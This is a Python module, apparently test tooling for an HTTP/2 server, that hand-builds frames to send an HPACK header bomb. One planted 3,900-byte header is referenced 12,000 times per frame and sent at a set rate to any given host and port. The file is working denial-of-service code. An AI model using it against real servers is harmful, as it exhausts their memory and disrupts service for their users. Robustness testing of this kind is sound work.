"""Attacks on an HTTP/2 server, made of bytes by hand: what no client library sends. Bounded in time and bytes.

The header bomb (of the kind that HPACK makes possible, RFC 7541 section 7.3): one header of `VALUE_BYTES` goes into the
decoder's table, then every byte of a header block is a reference to it. 12 KB on the wire say 47 MB of headers.
"""

import asyncio
from collections.abc import Callable
from dataclasses import dataclass
from time import monotonic

from oriel_wire.h2.frames import ACK, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, SETTINGS, frame

from .h2.blocks import indexed, literal

VALUE_BYTES = 3900
REFERENCES = 12_000
_FIRST_DYNAMIC = b"\xbe"  # an indexed field: 62, the newest entry of the dynamic table


def request_head(path: bytes, authority: bytes = b"x") -> bytes:
    """The pseudo-header fields and the content type of a gRPC call."""
    fields = [
        (b":path", path),
        (b":authority", authority),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    return b"\x83\x86" + b"".join([literal(name, value) for name, value in fields])  # POST, http


def bomb(stream: int, path: bytes, *, first: bool) -> bytes:
    """A HEADERS frame that refers to the planted header many times; the `first` one plants it."""
    planted = indexed(b"x", b"v" * VALUE_BYTES) if first else b""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, request_head(path) + planted + _FIRST_DYNAMIC * REFERENCES)


@dataclass(slots=True)
class Outcome:
    """What an attacker saw. goaway: the server's error code, None if it sent none; closed: it ended the connection."""

    sent_bytes: int = 0
    streams: int = 0
    goaway: int | None = None
    closed: bool = False


class Attacker:
    """One connection, which acknowledges the server's settings or not."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, acknowledges: bool) -> None:
        self._reader = reader
        self._writer = writer
        self._acknowledges = acknowledges
        self.outcome = Outcome()
        self.acknowledged = asyncio.Event()
        self._reading = asyncio.create_task(self._read())

    async def send(self, data: bytes) -> None:
        """Raises ConnectionError once the server has closed."""
        self._writer.write(data)
        await self._writer.drain()
        self.outcome.sent_bytes += len(data)

    async def close(self) -> Outcome:
        self._reading.cancel()
        self._writer.transport.abort()
        await asyncio.wait((self._reading,))
        return self.outcome

    async def _read(self) -> None:
        try:
            while True:
                start = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(start[:3], "big"))
                if start[3] == SETTINGS and not start[4] & ACK and self._acknowledges:
                    self._writer.write(frame(SETTINGS, ACK, 0))
                    self.acknowledged.set()
                elif start[3] == GOAWAY:
                    self.outcome.goaway = int.from_bytes(payload[4:8], "big")
        except (asyncio.IncompleteReadError, ConnectionError):
            self.outcome.closed = True


async def connected(host: str, port: int, *, acknowledges: bool = True) -> Attacker:
    """A connection with its preface and empty settings sent, and the server's settings acknowledged or not."""
    reader, writer = await asyncio.open_connection(host, port)
    attacker = Attacker(reader, writer, acknowledges=acknowledges)
    await attacker.send(PREFACE + frame(SETTINGS, 0, 0))
    if acknowledges:
        await attacker.acknowledged.wait()
    return attacker


async def header_bombs(
    host: str,
    port: int,
    path: bytes,
    *,
    seconds: float,
    bytes_per_s: float,
    acknowledges: bool = True,
    more: Callable[[], bool] = lambda: True,
) -> Outcome:
    """Send bombs at a rate for `seconds`, as long as the server takes them and `more()`; one connection, no key."""
    attacker = await connected(host, port, acknowledges=acknowledges)
    begun = monotonic()
    try:
        while monotonic() - begun < seconds and more() and not attacker.outcome.closed:
            stream = 2 * attacker.outcome.streams + 1
            await attacker.send(bomb(stream, path, first=stream == 1))
            attacker.outcome.streams += 1
            ahead_s = attacker.outcome.sent_bytes / bytes_per_s - (monotonic() - begun)
            await asyncio.sleep(max(0.0, ahead_s))
    except ConnectionError:
        attacker.outcome.closed = True
    return await attacker.close()
